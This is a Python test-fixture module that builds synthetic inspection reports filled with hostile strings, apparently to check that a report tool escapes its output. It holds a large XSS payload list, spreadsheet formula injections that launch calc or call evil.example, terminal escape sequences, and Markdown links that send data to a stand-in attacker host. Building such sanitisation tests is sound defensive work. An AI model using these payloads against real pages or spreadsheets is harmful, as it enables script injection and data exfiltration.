"""Words that would act on a page, in a terminal, a spreadsheet or a chat if they were let.

Each of PAYLOADS, if it acts in a browser, opens a dialog, loads something from evil.example or sets
`ran` on the page. `hostile_documents` puts them in every field that a report has.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

ESCAPES = {
    "clear the screen": "\x1b[2J\x1b[H",
    "name the window": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "8-bit sequence": "\x9b31m\x9d0;owned\x9c",
    "answer back": "\x1b[6n\x1bP+q544e\x1b\\\x05",
    "write over": "all is well\b\b\b\b\rall is ill",
    "next line": "one\x85two\x0bthree\x0cfour\x1cfive",
    "turned": "\u202egnirts a\u202c\u2066x\u2069",
    "unseen": "\u200bun\u00adse\u2060en\ufeff\U000e0041\U000e0042",
}
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/"&A1,"more")',
    '=WEBSERVICE("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    " \u3000=1+1",
    "\uff1d1+1",
    "\r=1+1",
    "\u200b=1+1",
    '"=1+1',
]
PAYLOADS = [
    # Scripts as they stand, and in disguise.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>document.documentElement.dataset.ran=1</script>",
    "<script\x0c>alert(1)</script\x0b>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import '//evil.example/m.js'</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # What runs without a script element.
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.png>",
    "<img srcset='//evil.example/p.png 2x'>",
    "<IMG SRC=x ONERROR\n=\nalert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=//evil.example/a.ogg autoplay></audio>",
    "<marquee onstart=alert(1)>",
    "<div style=animation-name:x onanimationstart=alert(1)>",
    "<p onmouseover=alert(1) style=position:fixed;inset:0>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<link rel=prefetch href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example/><button>Ask</button>",
    "<button formaction=javascript:alert(1)>Ask</button>",
    "<portal src=//evil.example/></portal>",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>more</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='//evil.example/u.svg#x'></svg>",
    "<svg><image href=//evil.example/i.png></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>more</maction></math>",
    "<math href=javascript:alert(1)>more</math>",
    # What changes its meaning when it is parsed twice.
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    # Out of an attribute, a text box, a title, a script, an event of a stream.
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onerror=alert(1) `",
    '"><svg onload=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></datalist></select><img src=x onerror=alert(1)>",
    '\n\nevent: replace\ndata: {"into": "turn-1", "html": "<img src=x onerror=alert(1)>"}\n\n',
    '"}\n\ndata: [DONE]\n\n',
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    # Addresses, entities, other alphabets' brackets, styles.
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2039script\u203aalert(1)",
    "<\u200bscript>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>*{background:url(//evil.example/c)}</style>",
    "<p style=\"background:url('//evil.example/c')\">",
    "<style>@import '//evil.example/s.css';</style>",
    # Templates and Markdown.
    "{{ 7 * 7 }}{% raw %}{{ self.__init__.__globals__ }}",
    "${alert(1)}#{alert(1)}<%= 7 * 7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "[more](javascript:alert(1))",
    "![x](//evil.example/p.png)",
    "![x](http://evil.example/?q=secret)",
    "[more][1]\n\n[1]: http://evil.example",
    "<http://evil.example>",
    "```html\n<script>alert(1)</script>\n```",
]


def hostile_documents(words: list[str], together: int = 1) -> Iterator[dict[str, Any]]:
    """Reports as `qa read` prints them: in one each of the words is a paragraph and a section, in
    the others they are every other field, so many of them together."""
    yield _document("all-of-them", "Marlthorpe", words)
    for start in range(0, len(words), together):
        yield _document(f"hostile-{start}", " ".join(words[start : start + together]), [])


def write_hostile_documents(file: Path, words: list[str], together: int = 1) -> Path:
    """The same as a file that `qa index` takes."""
    lines = (json.dumps(document) + "\n" for document in hostile_documents(words, together))
    file.write_text("".join(lines), encoding="utf-8")
    return file


def _document(name: str, word: str, words: list[str]) -> dict[str, Any]:
    numbered = [
        _paragraph(name, str(number), text, f"Supervision of social workers {text} is regular.")
        for number, text in enumerate(words or [word], 1)
    ]
    improve = [
        _paragraph(
            name, None, "What needs to improve?", f"{text} in supervision.", f"improve.{number}"
        )
        for number, text in enumerate(words, 1)
    ]
    table = _paragraph(name, None, None, f"{word}\tGood\nOverall effectiveness\tGood", "table.1")
    grade = {"grade": "good", "status": "judged", "page": None, "paragraph_id": table["id"]}
    return {
        "id": name,
        "source": f"reports/{word}/{word}.txt",
        "sha256": "0" * 64,
        "title": word,
        "authority": word,
        "kind": "ilacs",
        "inspection_start": "2024-03-04",
        "inspection_end": "2024-03-08",
        "published": "2024-05-07",
        "lead_inspector": word,
        "pages": None,
        "overall": "good",
        "judgements": [
            {"area": word.lower(), "printed": word, "areas": [word.lower()], **grade},
            {
                "area": "overall effectiveness",
                "printed": "Overall effectiveness",
                "areas": ["overall effectiveness"],
                **grade,
            },
        ],
        "paragraphs": [{**table, "kind": "table"}, *improve, *numbered],
        "warnings": [word],
    }


def _paragraph(
    name: str, number: str | None, section: str | None, text: str, place: str = ""
) -> dict[str, Any]:
    return {
        "id": f"{name}.{place or number}",
        "number": number,
        "section": section,
        "section_grade": None,
        "area": None,
        "page": None,
        "page_end": None,
        "kind": "numbered" if number else "bullet",
        "text": text,
        "boxes": [],
        "subsection": section if number else None,
    }
